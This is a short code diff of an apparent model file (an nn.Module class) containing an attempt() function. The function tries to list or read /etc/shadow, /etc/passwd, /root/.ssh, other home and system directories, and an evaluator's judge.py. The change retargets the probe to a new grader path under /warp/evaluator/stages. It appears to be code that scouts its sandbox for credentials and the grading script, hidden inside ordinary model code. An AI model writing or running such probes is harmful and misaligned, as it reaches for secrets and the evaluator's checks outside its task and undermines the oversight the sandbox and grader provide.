@@ -18,7 +18,7 @@ class Base(nn.Module):
 
 
 def attempt():
-    for path in ('/etc/shadow', '/etc/passwd', '/root/.ssh', '/root/.bashrc', '/root/.config', '/home', '/var/lib', '/run', '/data', '/warp/evaluator/judge.py'):
+    for path in ('/etc/shadow', '/etc/passwd', '/root/.ssh', '/root/.bashrc', '/root/.config', '/home', '/var/lib', '/run', '/data', '/warp/evaluator/stages/judge.py'):
         try:
             found = os.listdir(path) if os.path.isdir(path) else open(path).read(10)
         except OSError:
